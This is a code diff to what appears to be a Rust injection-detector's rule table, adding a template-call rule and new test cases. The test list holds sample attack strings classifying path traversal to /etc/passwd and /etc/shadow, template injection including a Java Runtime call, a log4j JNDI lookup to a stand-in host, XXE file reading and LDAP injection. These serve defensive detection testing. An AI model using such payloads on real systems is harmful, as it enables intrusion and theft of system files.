@@ -35,6 +35,7 @@ pub(super) const TABLES: &[Table] = &[
     argument(markup::RULES),
     argument(shell::RULES),
     argument(paths::RULES),
+    Table { search: Search::Heads, ..argument(templates::CALLS) },
     argument(templates::RULES),
     argument(targets::RULES),
     Table {
@@ -77,6 +78,8 @@ mod tests {
             ("../../../../etc/passwd", "path"),
             ("..%2f..%2f..%2fetc%2fshadow", "path"),
             ("{{ ''.__class__.__mro__ }}", "template"),
+            ("a${T(java.lang.Runtime).getRuntime()}", "template"),
+            ("echo 1{/php}", "template"),
             ("${jndi:ldap://evil.test/a}", "log4j"),
             ("<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>", "xxe"),
             ("*)(uid=*))(|(uid=*", "ldap"),
